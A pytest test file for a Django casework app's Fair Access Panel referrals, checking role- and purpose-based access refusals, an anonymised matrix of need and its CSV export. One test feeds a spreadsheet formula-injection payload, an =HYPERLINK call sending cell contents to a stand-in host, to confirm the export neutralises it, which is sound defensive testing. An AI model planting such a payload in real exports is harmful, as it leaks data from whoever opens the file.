"""FAP referrals: a school refers and submits, the panel chair decides, the matrix of need counts what the
referrals say (and nothing from drafts), the CSV is safe, and other organisations, roles and purposes are refused."""

from __future__ import annotations

import csv
import io

import pytest

from contextsafe.web.accounts.models import UserRole
from contextsafe.web.audit.models import AuditEntry
from contextsafe.web.casework.models import CaseDocument
from contextsafe.web.fap import matrix
from contextsafe.web.fap.form import PEER_ON_PEER
from tests.web.accounts.factories import organisation, signed_in, user

pytestmark = pytest.mark.django_db


def referral(**changes) -> dict:  # noqa: ANN003
    data = {"name": "Sam Synthetic", "current_school": "Hillside Academy", "reason": "Repeated incidents",
            "home_postcode": "NW5 1XY", "year_group": "9", "sex": "male", "ethnicity": "White British"}
    data.update(changes)
    return data


@pytest.fixture
def panel():  # noqa: ANN201
    return organisation(kind="partnership")


@pytest.fixture
def school(panel):  # noqa: ANN001, ANN201
    return organisation(kind="school")


@pytest.fixture
def teacher(school):  # noqa: ANN001, ANN201
    return user(UserRole.INFORMATION_PROVIDER, school)


@pytest.fixture
def chair(panel):  # noqa: ANN001, ANN201
    return user(UserRole.PANEL_CHAIR, panel)


def refer(client, popa=(), submit=True, **changes) -> CaseDocument:  # noqa: ANN001, ANN003
    response = client.post("/fap/new/", referral(**changes))
    assert response.status_code == 302, response.content[:3000]
    document = CaseDocument.objects.filter(kind="fap_referral").order_by("-pk").first()
    if popa:
        assert client.post(f"/fap/{document.pk}/social/", {"peer_on_peer": list(popa)}).status_code == 302
    if submit:
        assert client.post(f"/fap/{document.pk}/submit/").status_code == 302
    document.refresh_from_db()
    return document


def decide(client, document: CaseDocument, receiving: str = "Parkview School"):  # noqa: ANN001, ANN201
    return client.post(f"/fap/{document.pk}/decision/", {
        "issues": ["At risk of Permanent Exclusion/Managed Move"], "placement_agreed": ["mainstream"],
        "receiving_school": receiving, "decision_notes": "Managed move agreed", "signed_by": "Chair",
        "signed_on": "2026-11-02"})


def test_school_refers_panel_decides(teacher, chair):
    document = refer(signed_in(teacher), popa=["sexual_bullying"])
    assert document.status == "submitted" and document.organisation == teacher.organisation
    assert list(document.shared_with.all()) == [chair.organisation]  # the panel's organisation, on submission
    client = signed_in(chair)
    assert f"/fap/{document.pk}/" in client.get("/fap/").content.decode()
    assert decide(client, document).status_code == 302
    document.refresh_from_db()
    assert document.status == "closed" and document.data["decision"]["receiving_school"] == "Parkview School"
    page = client.get(f"/fap/{document.pk}/").content.decode()
    assert "Sexual bullying" in page and "Parkview School" in page


def test_contextual_sections_hold_information_and_school_response(teacher):
    client = signed_in(teacher)
    document = refer(client, submit=False)
    client.post(f"/fap/{document.pk}/context/", {"neighbourhood_information": "Robbed on the bus to school",
                                                  "neighbourhood_school_response": "Referred to the youth service"})
    document.refresh_from_db()
    assert document.data["context"]["neighbourhood_information"] == "Robbed on the bus to school"
    assert document.data["context"]["neighbourhood_school_response"] == "Referred to the youth service"
    page = client.get(f"/fap/{document.pk}/").content.decode()
    assert "Neighbourhood: School response, including referrals to external agencies" in page


def test_refusals(teacher, chair, school):
    document = refer(signed_in(teacher), submit=False)
    # another school cannot open it; the panel neither sees nor decides a draft; the school cannot decide
    other_school = user(UserRole.INFORMATION_PROVIDER, organisation(kind="school"))
    assert signed_in(other_school).get(f"/fap/{document.pk}/").status_code == 403
    assert signed_in(chair).get(f"/fap/{document.pk}/").status_code == 403
    assert f"/fap/{document.pk}/" not in signed_in(chair).get("/fap/").content.decode()
    assert decide(signed_in(chair), document).status_code == 403
    signed_in(teacher).post(f"/fap/{document.pk}/submit/")
    assert signed_in(chair).get(f"/fap/{document.pk}/").status_code == 200
    assert decide(signed_in(teacher), document).status_code == 403
    # once submitted the school can no longer change it, and the panel does not edit the school's sections
    assert signed_in(teacher).post(f"/fap/{document.pk}/referral/", referral(name="Changed")).status_code == 403
    assert signed_in(chair).post(f"/fap/{document.pk}/referral/", referral(name="Changed")).status_code == 403
    # a practitioner is not a referrer; a panel chair under another purpose sees nothing; analysts see no referral
    assert signed_in(user(UserRole.PRACTITIONER)).get("/fap/new/").status_code == 403
    assert signed_in(chair, "profiling").get(f"/fap/{document.pk}/").status_code == 403
    assert signed_in(user(UserRole.ANALYST, chair.organisation)).get(f"/fap/{document.pk}/").status_code == 403
    assert signed_in(teacher).get(f"/fap/{document.pk + 500}/").status_code == 403
    assert signed_in(teacher).get(f"/fap/{document.pk}/secret/").status_code == 404
    document.refresh_from_db()
    assert document.data["referral"]["name"] == "Sam Synthetic" and "decision" not in document.data
    assert AuditEntry.objects.filter(outcome="refused").count() >= 8


def test_matrix_counts_come_from_the_referrals(teacher, chair):
    client = signed_in(teacher)
    refer(client, popa=["cse", "missing_home"], home_ward="Kilburn")
    second = refer(client, popa=["cse"], home_postcode="nw5 2ab", current_school="Parkview School")
    refer(client)  # no peer-on-peer abuse
    refer(client, popa=["hsb"], submit=False)  # a draft is not a referral yet
    decide(signed_in(chair), second, receiving="Hillside Academy")
    need = matrix.build(CaseDocument.objects.filter(kind="fap_referral").exclude(status="draft")
                        .values_list("data", flat=True))
    assert (need.referrals, need.peer_on_peer) == (3, 2)
    assert dict(need.by_item) == {"cse": 2, "missing_home": 1}
    assert need.referring == {"Hillside Academy": [2, 1], "Parkview School": [1, 1]}
    assert need.receiving == {"Hillside Academy": [1, 1]}
    assert need.journeys == {("Kilburn", "Hillside Academy"): [1, 1], ("NW5", "Parkview School"): [1, 1],
                             ("NW5", "Hillside Academy"): [1, 0]}
    page = signed_in(chair, "profiling").get("/fap/matrix/")
    assert page.status_code == 200
    text = page.content.decode()
    assert "Synthetic" not in text and "NW5 1XY" not in text
    assert 'id="popa-count">2<' in text

    analyst = user(UserRole.ANALYST, chair.organisation)
    response = signed_in(analyst).get("/fap/matrix.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["table", "row", "column", "referrals", "peer_on_peer"]
    assert ["referrals", "all", "", "3", "2"] in rows
    assert [r for r in rows if r[0] == "peer_on_peer_item"] == [
        ["peer_on_peer_item", label, "", str(need.by_item[key]), str(need.by_item[key])] for key, label in PEER_ON_PEER]
    assert signed_in(teacher).get("/fap/matrix/").status_code == 403
    assert signed_in(user(UserRole.PRACTITIONER)).get("/fap/matrix.csv").status_code == 403


def test_matrix_csv_neutralises_formulas(teacher, chair):
    refer(signed_in(teacher), current_school='=HYPERLINK("http://x.example/?"&A1,"click")')
    rows = list(csv.reader(io.StringIO(signed_in(chair).get("/fap/matrix.csv").content.decode("utf-8-sig"))))
    schools = [r[1] for r in rows if r[0] == "referring_school"]
    assert schools == ['\'=HYPERLINK("http://x.example/?"&A1,"click")']


def test_home_area_never_holds_a_full_postcode():
    assert matrix.home_area({"home_postcode": "NW1 0AA"}) == "NW1"
    assert matrix.home_area({"home_postcode": "not known"}) == "Not recorded"


def test_printed_referral_uses_the_forms_questions(teacher, chair):
    document = refer(signed_in(teacher), popa=["gangs"])
    page = signed_in(chair).get(f"/casework/{document.pk}/print/").content.decode()
    assert "Peer-on-peer abuse (tick all that applies)" in page
    assert "Affected by Gangs and or serious youth violence" in page
    assert signed_in(user(UserRole.INFORMATION_PROVIDER)).get(f"/casework/{document.pk}/print/").status_code == 403


def test_linking_the_child_needs_a_record_the_school_may_see(analysis_store, panel):
    teacher = user(UserRole.INFORMATION_PROVIDER, organisation(kind="school", sources=["school_exclusions"]))
    client = signed_in(teacher)
    response = client.post("/fap/new/", referral(person_id="P-AMARA"))  # the school holds no record of Amara
    assert response.status_code == 200 and "No young person with this identifier" in response.content.decode()
    document = refer(client, person_id="P-BEN", review_on="2027-07-31")
    assert (document.person_id, str(document.review_on)) == ("P-BEN", "2027-07-31")
